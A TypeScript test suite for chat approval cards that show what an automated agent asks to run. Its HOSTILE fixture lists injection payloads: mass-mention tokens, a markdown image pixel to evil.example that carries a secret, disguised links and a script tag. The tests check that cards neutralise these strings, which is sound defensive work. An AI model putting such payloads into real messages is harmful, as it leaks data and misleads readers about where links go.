import { describe, expect, it } from 'vitest';
import { OUTCOMES } from './approval-book.ts';
import { askIn, postCard, redraw, shownCard, startScene } from './opened-card.ts';
import type { ApprovalSurface } from './surface-driver.ts';

/** What a hostile model writes into arguments, names and reasons. */
const HOSTILE = [
  '<!channel> <!here> @everyone @here <@U1ANN> <@&123456789012345678> <#C1GENERAL>',
  '![x](https://evil.example/pixel.png?d=secret) <https://evil.example/a|https://good.example>',
  '[https://good.example](https://evil.example/b) <img src="https://evil.example/c.png"> <script>alert(1)</script>',
  'https://evil.example/d',
].join('\n');

const ALL = ['approve', 'approveForThread', 'deny', 'withdraw'] as const;

/** What people see of a request. */
export function testCards(surface: ApprovalSurface): void {
  describe('a card', () => {
    it('says what is to be done, with what, for whom, who may decide, and offers the four answers', async () => {
      const scene = await startScene(surface);
      const card = await postCard(scene, askIn(scene, { arguments: { version: '1.2.3', region: 'north' } }));
      for (const word of ['Deploy', 'version', '1.2.3', 'region', 'north', 'Cid', 'admins of the team', '2026']) {
        expect(card.text).toContain(word);
      }
      expect(card.buttons.toSorted()).toEqual(ALL.toSorted());
      expect(card.spoken).toContain('Cid asks to run Deploy.');
    });

    it('has all of long arguments beside it', async () => {
      const scene = await startScene(surface);
      const long = Array.from({ length: 400 }, (_, line) => `line ${line}`).join('\n');
      const card = await postCard(scene, askIn(scene, { arguments: { script: long } }));
      expect(card.beside).toContain('line 399');
      expect(card.buttons).toHaveLength(4);
    });

    it('is posted whatever stands in it, calls nobody, fetches nothing, and hides no address', async () => {
      const scene = await startScene(surface);
      const hostile = { [HOSTILE]: HOSTILE, long: HOSTILE.repeat(40) };
      const card = await postCard(scene, askIn(scene, { label: HOSTILE, arguments: hostile }));
      const { cid } = scene.started.people;
      expect(card.calls.filter((id) => id !== cid.person.id)).toEqual([]);
      expect(card.fetched).toEqual([]);
      // Platforms may make links of addresses, as long as it is to be seen where they lead.
      expect(card.links.filter(({ address, label }) => address.includes('evil') && label !== address)).toEqual([]);
      expect(card.text).toContain('evil.example');
    });

    it('is there once however often its post is repeated', async () => {
      const scene = await startScene(surface);
      const { started, book } = scene;
      const approval = askIn(scene);
      const card = await postCard(scene, approval);
      const to = { kind: 'thread', thread: started.thread } as const;
      const again = await started.cards.post(to, await book.card(approval), {
        key: `${approval.id}:thread`,
        recovery: true,
      });
      expect(again).toBe(card.id);
      expect(await started.shownIn(to)).toHaveLength(1);
    });

    it('is there once where another process repeats its post', async () => {
      const scene = await startScene(surface);
      const approval = askIn(scene);
      const card = await postCard(scene, approval);
      const started = await scene.started.restart();
      const to = { kind: 'thread', thread: started.thread } as const;
      const key = `${approval.id}:thread`;
      expect(await started.cards.post(to, await scene.book.card(approval), { key, recovery: true })).toBe(card.id);
      expect(await started.shownIn(to)).toHaveLength(1);
    });

    it('is shown to one person alone', async () => {
      const scene = await startScene(surface);
      const { started } = scene;
      const approval = askIn(scene);
      const to = { kind: 'person', thread: started.thread, person: started.people.ann.person.id } as const;
      const card = await postCard(scene, approval, to);
      expect(card.buttons.toSorted()).toEqual(ALL.toSorted());
      expect(await started.shownIn({ kind: 'thread', thread: started.thread })).toEqual([]);
    });

    it("is shown in the approvers' channel, where there is one", async () => {
      const scene = await startScene(surface);
      const { thread, channel } = scene.started;
      if (channel === undefined) return;
      const card = await postCard(scene, askIn(scene), { kind: 'channel', thread, channel });
      expect(card.buttons.toSorted()).toEqual(ALL.toSorted());
      expect(await scene.started.shownIn({ kind: 'thread', thread })).toEqual([]);
    });

    it('has no buttons and says what became of it when it is over, drawn anew by any process', async () => {
      const scene = await startScene(surface);
      const approval = askIn(scene);
      const card = await postCard(scene, approval);
      await scene.book.decide(approval.id, { kind: 'deny', reason: HOSTILE }, { by: scene.started.people.ann });
      const started = await scene.started.restart();
      const after = await redraw({ ...scene, started }, approval.id, card);
      expect(after.buttons).toEqual([]);
      expect(after.text).toContain('Denied by Ann.');
      const { cid, ann } = started.people;
      expect(after.calls.filter((id) => id !== cid.person.id && id !== ann.person.id)).toEqual([]);
      expect(after.fetched).toEqual([]);
    });

    it.each(['done', 'failed', 'unknown'] as const)(
      'says what came of the call, and not what it answered: %s',
      async (kind) => {
        const scene = await startScene(surface);
        const { book, started } = scene;
        const approval = askIn(scene);
        const card = await postCard(scene, approval);
        await book.decide(approval.id, { kind: 'approve', forThread: false }, { by: started.people.ann });
        book.finish(approval.id, started.people.ann.person, { kind, text: 'a secret answer' });
        const after = await redraw(scene, approval.id, card);
        expect(after.buttons).toEqual([]);
        expect(after.text).not.toContain('a secret answer');
        const told = Object.values(OUTCOMES).filter((words) => after.text.includes(words));
        expect(told).toEqual([OUTCOMES[kind]]);
      },
    );

    it('that is gone is no failure when it is drawn anew', async () => {
      const scene = await startScene(surface);
      const { started, book } = scene;
      const approval = askIn(scene);
      const card = await postCard(scene, approval);
      const to = { kind: 'thread', thread: started.thread } as const;
      await started.remove(card, to);
      await started.cards.update(to, card.id, await book.card(approval));
      await expect(shownCard(started, card.id)).rejects.toThrow('No card');
    });
  });
}
